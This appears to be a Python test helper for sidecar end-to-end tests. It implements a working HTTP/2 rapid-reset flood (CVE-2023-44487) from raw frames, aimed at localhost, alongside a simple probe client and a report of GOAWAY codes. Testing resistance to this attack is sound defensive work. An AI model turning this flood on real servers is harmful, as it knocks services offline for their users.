"""HTTP/2 attack and probe clients for sidecar e2e tests (raw frames, the `h2` package).

    python -m tests.helpers.h2_flood --port P --seconds S [--connections 2]
        [--cert C --key K --bundle B --sni NAME] [--authority A] --report FILE

runs a rapid-reset flood (CVE-2023-44487): on each of `--connections` connections, in a
thread, HEADERS (END_STREAM) + RST_STREAM(CANCEL) pairs written in batches as fast as
the socket takes them, reconnecting whenever the server closes the connection, until
`--seconds` have passed. The report (JSON) counts connections, streams sent and the
GOAWAY error codes received. With `--cert` the connections are mTLS with ALPN `h2`
(a sidecar's inbound port); without, h2c with prior knowledge (its outbound port).

`probe()` is the well-behaved client: a new connection, one GET, the time it took.
"""

from __future__ import annotations

import argparse
import json
import socket
import ssl
import struct
import threading
import time
from collections import Counter
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import h2.config
import h2.connection
import h2.events
import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_HEADERS, _RST_STREAM, _SETTINGS, _GOAWAY = 0x1, 0x3, 0x4, 0x7
_END_STREAM, _END_HEADERS = 0x1, 0x4
_CANCEL = 0x8


@dataclass(frozen=True)
class Target:
    port: int
    authority: str
    cert: str | None = None
    key: str | None = None
    bundle: str | None = None
    sni: str | None = None

    def connect(self, timeout: float = 5.0) -> socket.socket:
        """A TCP connection, wrapped in mTLS with ALPN h2 when the target has a cert."""
        sock = socket.create_connection(("127.0.0.1", self.port), timeout=timeout)
        if self.cert is None:
            return sock
        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        ctx.check_hostname = False  # sidecars present SPIFFE URI SANs, no DNS names
        ctx.load_verify_locations(self.bundle)
        ctx.load_cert_chain(self.cert, self.key)
        ctx.set_alpn_protocols(["h2"])
        return ctx.wrap_socket(sock, server_hostname=self.sni)


def _frame(kind: int, flags: int, stream_id: int, payload: bytes) -> bytes:
    return (
        struct.pack(">I", len(payload))[1:]
        + bytes((kind, flags))
        + struct.pack(">I", stream_id)
        + payload
    )


def _header_block(authority: str) -> bytes:
    """A request header block that does not touch the HPACK dynamic table, so the same
    bytes are valid on every stream."""
    headers: list[hpack.HeaderTuple | tuple[str, str]] = [
        (":method", "GET"),
        (":scheme", "https"),
        (":path", "/"),
        hpack.NeverIndexedHeaderTuple(":authority", authority),
    ]
    return bytes(hpack.Encoder().encode(headers))


class _Reader(threading.Thread):
    """Reads what the server sends; notes GOAWAY error codes and the end."""

    def __init__(self, sock: socket.socket, goaways: Counter[int]) -> None:
        super().__init__(daemon=True)
        self.sock = sock
        self.goaways = goaways
        self.done = threading.Event()

    def run(self) -> None:
        buf = b""
        try:
            while chunk := self.sock.recv(65536):
                buf += chunk
                while len(buf) >= 9:
                    length = int.from_bytes(buf[:3], "big")
                    if len(buf) < 9 + length:
                        break
                    if buf[3] == _GOAWAY:
                        self.goaways[int.from_bytes(buf[13:17], "big")] += 1
                    buf = buf[9 + length :]
        except (OSError, ValueError):
            pass
        finally:
            self.done.set()


def flood(target: Target, seconds: float, stats: dict[str, Any], batch: int = 200) -> None:
    """One attacker: HEADERS+RST_STREAM pairs until `seconds` pass, reconnecting."""
    block = _header_block(target.authority)
    goaways: Counter[int] = stats["goaway"]
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        try:
            sock = target.connect()
        except OSError:
            stats["connect_errors"] += 1
            time.sleep(0.05)
            continue
        stats["connections"] += 1
        reader = _Reader(sock, goaways)
        reader.start()
        stream = 1
        try:
            sock.sendall(PREFACE + _frame(_SETTINGS, 0, 0, b""))
            while time.monotonic() < deadline and not reader.done.is_set():
                out = bytearray()
                for _ in range(batch):
                    out += _frame(_HEADERS, _END_STREAM | _END_HEADERS, stream, block)
                    out += _frame(_RST_STREAM, 0, stream, struct.pack(">I", _CANCEL))
                    stream += 2
                sock.sendall(out)
                stats["streams"] += batch
        except OSError:
            pass
        finally:
            try:
                sock.close()
            except OSError:
                pass
            reader.done.wait(1.0)


def probe(target: Target, path: str = "/", timeout: float = 10.0) -> tuple[int, float]:
    """A well-behaved client: connect (handshake included), one GET; (status, seconds)."""
    start = time.monotonic()
    sock = target.connect(timeout)
    try:
        conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        conn.initiate_connection()
        conn.send_headers(
            1,
            [(":method", "GET"), (":scheme", "https"), (":path", path),
             (":authority", target.authority)],
            end_stream=True,
        )  # fmt: skip
        sock.sendall(conn.data_to_send())
        status = 0
        while True:
            data = sock.recv(65536)
            if not data:
                raise ConnectionError("the server closed the connection")
            for event in conn.receive_data(data):
                if isinstance(event, h2.events.ResponseReceived):
                    status = int(dict(event.headers)[b":status"])
                elif isinstance(event, h2.events.DataReceived):
                    conn.acknowledge_received_data(event.flow_controlled_length, 1)
                elif isinstance(event, h2.events.StreamEnded | h2.events.StreamReset):
                    return status, time.monotonic() - start
            sock.sendall(conn.data_to_send())
    finally:
        sock.close()


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--seconds", type=float, default=4.0)
    parser.add_argument("--connections", type=int, default=2)
    parser.add_argument("--authority", default="localhost")
    parser.add_argument("--cert")
    parser.add_argument("--key")
    parser.add_argument("--bundle")
    parser.add_argument("--sni")
    parser.add_argument("--report", type=Path, required=True)
    args = parser.parse_args()
    target = Target(args.port, args.authority, args.cert, args.key, args.bundle, args.sni)
    stats: dict[str, Any] = {
        "connections": 0,
        "connect_errors": 0,
        "streams": 0,
        "goaway": Counter(),
    }
    threads = [
        threading.Thread(target=flood, args=(target, args.seconds, stats), daemon=True)
        for _ in range(args.connections)
    ]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    stats["goaway"] = {str(k): v for k, v in stats["goaway"].items()}
    args.report.write_text(json.dumps(stats))


if __name__ == "__main__":
    main()
